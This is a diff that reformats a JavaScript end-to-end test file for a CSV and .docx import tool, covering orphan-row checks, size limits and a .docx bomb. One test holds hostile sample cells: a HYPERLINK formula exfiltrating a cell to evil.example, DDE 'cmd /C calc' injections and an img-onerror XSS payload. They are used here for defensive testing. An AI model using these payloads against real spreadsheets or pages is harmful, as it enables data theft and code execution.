@@ -19,15 +19,27 @@ test('setup: a report loaded from /data is the data every hostile file must leav
 });
 
 test('child rows whose report exists nowhere are named by file, row and report_id; a report in a file added with them counts', async () => {
-	const shipped = (await (await fetch(`${BASE}/data/reports.csv`)).text()).split(/\r?\n/)[1].split(',')[0].replace(/^\uFEFF/, '');
+	const shipped = (await (await fetch(`${BASE}/data/reports.csv`)).text())
+		.split(/\r?\n/)[1]
+		.split(',')[0]
+		.replace(/^\uFEFF/, '');
 	assert.ok(shipped, 'a shipped report_id');
 	// Rows 3 and 5 name reports that do not exist; rows 2 and 4 belong to a shipped report.
-	const orphans = { name: 'findings-orphans.csv', text: csv(FINDINGS, [`${shipped},9001,问题,台账不全,其他`, `no-such-report,1,问题,x,其他`, `${shipped},9002,建议,补全台账,其他`, `ghost-2,1,问题,y,其他`]) };
+	const orphans = {
+		name: 'findings-orphans.csv',
+		text: csv(FINDINGS, [`${shipped},9001,问题,台账不全,其他`, `no-such-report,1,问题,x,其他`, `${shipped},9002,建议,补全台账,其他`, `ghost-2,1,问题,y,其他`])
+	};
 	await s.drop([orphans]);
 	const text = await s.phase(orphans.name);
 	assert.match(text, /2 of 4 rows have problems/);
-	const problems = await s.item(orphans.name).locator('table.problems tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent)));
-	assert.deepEqual(problems, [['3', 'report_id', 'no-such-report'], ['5', 'report_id', 'ghost-2']]);
+	const problems = await s
+		.item(orphans.name)
+		.locator('table.problems tbody tr')
+		.evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent)));
+	assert.deepEqual(problems, [
+		['3', 'report_id', 'no-such-report'],
+		['5', 'report_id', 'ghost-2']
+	]);
 	assert.match(text, /no report with this report_id: it is neither in the loaded data nor in the files being added/);
 	assert.equal(await s.item(orphans.name).getByRole('button', { name: 'Skip 2 bad rows, load the other 2' }).count(), 1);
 	await s.item(orphans.name).getByRole('button', { name: 'Cancel' }).click();
@@ -38,10 +50,15 @@ test('child rows whose report exists nowhere are named by file, row and report_i
 	const children = { name: 'findings-for-new.csv', text: csv(FINDINGS, [`${NEW_ID},1,问题,台账不全,其他`, `${NEW_ID},2,建议,补全台账,其他`]) };
 	await s.drop([children]);
 	assert.match(await s.phase(children.name), /2 of 2 rows have problems/);
-	const reports = { name: 'reports-new.csv', text: csv('report_id,title,year,district,budget_wan,actual_wan,score,grade,synthetic', [`${NEW_ID},敌意测试报告,2024,海珠区,10,9,80,良,false`]) };
+	const reports = {
+		name: 'reports-new.csv',
+		text: csv('report_id,title,year,district,budget_wan,actual_wan,score,grade,synthetic', [`${NEW_ID},敌意测试报告,2024,海珠区,10,9,80,良,false`])
+	};
 	await s.drop([reports]);
 	await s.phase(reports.name);
-	await s.page.waitForFunction((n) => /Ready: 2 rows → findings/.test(document.querySelector(`li.item[data-file="${n}"]`)?.textContent ?? ''), children.name, { timeout: 10000 });
+	await s.page.waitForFunction((n) => /Ready: 2 rows → findings/.test(document.querySelector(`li.item[data-file="${n}"]`)?.textContent ?? ''), children.name, {
+		timeout: 10000
+	});
 	await s.page.getByRole('button', { name: 'Load every ready file' }).click();
 	await s.phase(reports.name, ['loaded']);
 	await s.phase(children.name, ['loaded']);
@@ -52,7 +69,13 @@ test('child rows whose report exists nowhere are named by file, row and report_i
 });
 
 test('a formula-cell CSV loads as text: nothing is evaluated or rendered as markup, and the console exports it neutralised', async () => {
-	const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '+1', '<img src=x onerror="window.__xss=1">'];
+	const cells = [
+		'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		'+1',
+		'<img src=x onerror="window.__xss=1">'
+	];
 	const quote = (s) => `"${s.replaceAll('"', '""')}"`;
 	const rows = cells.map((c, i) => `${NEW_ID},${10 + i},问题,${quote(c)},其他`);
 	rows.push(`${NEW_ID},=1+1,问题,${quote('=cmd')},其他`);
@@ -111,7 +134,13 @@ test('files over the limits are refused before they are read; a .docx bomb is na
 	const docx = join(s.tmp, 'paragraphs.docx');
 	const gen = spawnSync(
 		process.execPath,
-		['--import', 'tsx', '--input-type=module', '-e', `import { docxRepeated } from './test/hostile/generate.ts'; import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(docx)}, docxRepeated('<w:p><w:r><w:t>x</w:t></w:r></w:p>', 2_000_000));`],
+		[
+			'--import',
+			'tsx',
+			'--input-type=module',
+			'-e',
+			`import { docxRepeated } from './test/hostile/generate.ts'; import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(docx)}, docxRepeated('<w:p><w:r><w:t>x</w:t></w:r></w:p>', 2_000_000));`
+		],
 		{ encoding: 'utf8' }
 	);
 	assert.equal(gen.status, 0, gen.stderr);
